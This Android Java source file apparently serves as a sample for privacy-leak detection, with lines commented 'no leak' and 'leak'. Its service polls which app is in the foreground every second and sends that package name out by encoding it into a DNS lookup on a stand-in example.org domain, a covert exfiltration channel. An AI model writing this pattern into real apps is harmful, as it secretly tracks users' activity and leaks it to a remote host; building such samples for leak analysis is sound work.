package ways;

import android.app.ActivityManager;
import android.app.Service;
import android.app.usage.UsageStats;
import android.app.usage.UsageStatsManager;
import android.content.Context;
import android.content.Intent;
import android.os.Handler;
import android.os.IBinder;
import android.os.Message;
import java.net.InetAddress;
import java.util.List;
import java.util.SortedMap;
import java.util.TreeMap;

/** Which app is in front, once a second, in names that are looked up. */
public class Foreground extends Service {
    private final Handler ticks = new Handler() {
        @Override
        public void handleMessage(Message message) {
            tell(front());
            sendEmptyMessageDelayed(1, 1000);
        }
    };

    private String front() {
        UsageStatsManager usage = (UsageStatsManager) getSystemService(Context.USAGE_STATS_SERVICE);
        List<UsageStats> stats = usage.queryUsageStats(UsageStatsManager.INTERVAL_DAILY, 0, System.currentTimeMillis());
        SortedMap<Long, UsageStats> sorted = new TreeMap<>();
        for (UsageStats one : stats) sorted.put(one.getLastTimeUsed(), one);
        if (!sorted.isEmpty()) return sorted.get(sorted.lastKey()).getPackageName();
        ActivityManager manager = (ActivityManager) getSystemService(Context.ACTIVITY_SERVICE);
        return manager.getRunningTasks(1).get(0).topActivity.getClassName();
    }

    private void tell(final String name) {
        new Thread(() -> {
            try {
                InetAddress.getByName("alive.x.example.org"); // no leak
                InetAddress.getByName(name.replace('.', '-') + ".x.example.org"); // leak
            } catch (Exception e) {
                stopSelf();
            }
        }).start();
    }

    @Override
    public int onStartCommand(Intent intent, int flags, int id) {
        ticks.sendEmptyMessage(1);
        return START_STICKY;
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
